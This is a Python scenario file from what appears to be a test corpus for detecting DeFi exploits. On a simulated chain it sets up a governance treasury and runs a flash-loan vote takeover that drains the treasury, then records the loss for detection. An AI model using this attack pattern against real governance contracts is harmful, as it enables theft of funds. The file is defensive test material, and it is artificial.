"""The governance family (contracts/corpus/CorpusGovernor.sol): a treasury governed by a vote
token read at its current balance. Exploit: a takeover with votes borrowed in a flash loan."""

from __future__ import annotations

from node.corpus.base import EXPLOIT, Effect, Scenario, Watch
from node.corpus.chain import E18

SUPPLY = 10_000_000 * E18
TREASURY = 1_000_000 * E18


class GovernanceTakeover(Scenario):
    name = "gov_takeover"
    family = "governance"
    verdict = EXPLOIT
    harmful = "the attack transaction: flash-borrow 60% of the votes, execute a transfer of the " \
              "treasury to itself, repay"

    def setup(self) -> None:
        usd, votes = self.tokens["usd"], self.tokens["votes"]
        gov = self.chain.gov.account
        self.governor = self.chain.deploy("CorpusGovernor", votes.address, self.chain.oracle,
                                          gov.address)
        self.lender = self.chain.deploy("CorpusFlashLender")
        self.attacker = self.chain.account(self.label("attacker"))
        self.fee_votes = SUPPLY // 1000
        self.chain.settle([
            self.chain.send(gov, votes.functions.mint(self.lender.address, SUPPLY * 60 // 100)),
            self.chain.send(gov, votes.functions.mint(gov.address, SUPPLY * 30 // 100)),
            self.chain.send(gov, votes.functions.mint(self.attacker.address, self.fee_votes)),
            self.chain.send(gov, usd.functions.mint(self.governor.address, TREASURY))])
        self.capital = 0

    def watch(self) -> Watch:
        return Watch(self.governor.address, [self.governor.address], [self.tokens["usd"].address])

    def act(self) -> None:
        # the attack contract is created (and approved) one block before it strikes
        usd, votes = self.tokens["usd"], self.tokens["votes"]
        self.evil = self.chain.deploy("CorpusGovAttacker", self.governor.address,
                                      self.lender.address, usd.address, by=self.attacker)
        self.chain.settle([self.chain.send(self.attacker, votes.functions.approve(
            self.evil.address, 2**256 - 1), label=self.label("approve attacker"))])
        self.chain.next_block()
        self.at_risk = self.chain.token_balance(self.tokens["usd"], self.governor.address)
        borrowed = self.chain.token_balance(self.tokens["votes"], self.lender.address)
        self.emit(self.chain.send(self.attacker, self.evil.functions.attack(borrowed),
                                  gas=1_500_000, label=self.label("takeover"), harmful=True))

    def effect(self) -> Effect:
        gained = self.chain.token_balance(self.tokens["usd"], self.attacker.address)
        return Effect(at_risk=self.at_risk, lost=gained)
